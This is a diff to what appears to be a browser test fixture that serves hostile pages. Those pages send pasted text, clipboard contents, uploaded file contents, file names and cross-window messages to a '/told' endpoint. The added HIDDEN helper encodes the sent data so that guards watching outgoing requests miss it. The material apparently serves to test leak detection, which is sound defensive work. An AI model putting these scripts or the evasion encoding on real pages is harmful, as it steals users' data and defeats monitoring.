@@ -112,6 +112,9 @@ function unauthorised(packet) {
 }
 
 const TOLD = (value) => `fetch('/told?d=' + encodeURIComponent(${value}))`;
+/** So that no guard of what scripts send sees it: what counts is that the page was told at all. `leaks.mjs` undoes it. */
+const HIDDEN = (value) =>
+  `fetch('/told?d=' + [...String(${value})].map((c) => (c.charCodeAt(0) + 77).toString(36)).join('.'))`;
 const SEND = "fetch('/told?d=' + encodeURIComponent(event.target.value))";
 const FIELD = '<form action="/c"><input name="d" aria-label="Notes" autofocus></form>';
 
@@ -160,6 +163,7 @@ const PAGES = {
   '/pasting': `<label>Notes <textarea></textarea></label><script>addEventListener('paste', (e) => ${TOLD("e.clipboardData.getData('text')")})</script>`,
   '/reading': `<button onclick="navigator.clipboard.readText().then((t) => ${TOLD('t')})">Go on</button>`,
   '/upload': `<label>Statement <input type="file" onchange="this.files[0].text().then((t) => ${TOLD('btoa(unescape(encodeURIComponent(t)))')})"></label>`,
+  '/file-names': `<label>Statement <input type="file" oninput="${HIDDEN('this.files[0]?.name')}" onchange="${HIDDEN('this.files[0]?.name')}"></label>`,
   '/hearing': `<button onclick="window.open('http://harbourbank.example/account')">Open your bank</button><script>addEventListener('message', (e) => ${TOLD('JSON.stringify(e.data)')})</script>`,
   '/surface/closed-root': `<div id="host"></div><script>
     const root = document.getElementById('host').attachShadow({ mode: 'closed' });
